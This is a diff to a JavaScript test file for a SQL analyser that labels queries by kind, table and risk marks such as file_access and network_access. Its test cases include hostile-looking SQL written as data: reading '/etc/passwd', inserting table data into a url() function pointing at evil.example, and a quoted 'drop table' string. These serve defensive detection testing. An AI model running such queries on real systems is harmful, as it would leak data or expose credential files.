@@ -183,10 +183,11 @@ test('statements within statements, lists of tables, tables in parentheses, file
     ["select * from '/etc/passwd'", 'select', '', 'file_access'],
     ["select * from 'https://evil.example/x.csv'", 'select', '', 'network_access'],
     ["select * from read_parquet('s3://b/x')", 'select', '', 'network_access'],
-    ["insert into function url('https://evil.example') select * from t", 'insert', 't', ''],
+    ["insert into function url('https://evil.example') select * from t", 'insert', 't', 'network_access'],
+    ['insert into url (a) values (1)', 'insert', 'url', ''],
     ["select * from remote('h:9000', 'db', 't')", 'select', '', 'network_access'],
     ['/* a */ with x as (select * from /* b */ y) -- c\nselect * from x', 'select', 'y', ''],
-    ["select 'exec('drop table x')' from t", 'select', 't', ''],
+    ["select 'exec(''drop table x'')' from t", 'select', 't', ''],
   ];
   for (const [sql, kinds, tables, marks] of cases) {
     const facts = sqlFacts(sql);
